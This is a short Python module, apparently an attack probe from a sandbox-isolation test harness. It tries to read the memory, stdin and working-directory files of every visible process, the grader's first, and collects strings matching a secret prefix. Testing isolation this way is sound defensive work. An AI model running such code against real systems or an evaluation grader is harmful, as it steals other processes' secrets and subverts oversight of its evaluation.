"""Open the memory, files and folders of every process that can be seen, the grader's first."""

import glob

CLASS = "climbing"
GAINS = ("read",)
SECONDS = 4.0


def attack():
    pids = [KNOWN["grader"], KNOWN["bystander"], os.getppid(), 1]
    pids += [int(path.split("/")[2]) for path in glob.glob("/proc/[0-9]*")][:60]
    for pid in pids:
        if pid == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
                memory.seek(KNOWN["address"])
                loot.append(memory.read(64).partition(b"\0")[0].decode())
        except (OSError, ValueError, OverflowError):
            pass
        for inner in ("fd/0", "cwd/bank", f"root{KNOWN['bank']}"):
            try:
                # Not to wait for what others write to a pipe.
                opened = os.open(f"/proc/{pid}/{inner}", os.O_RDONLY | os.O_NONBLOCK)
                words = os.pread(opened, 4096, 0).decode(errors="replace").split('"')
                os.close(opened)
            except OSError:
                continue
            loot.extend(word for word in words if word.startswith(KNOWN["prefix"]))
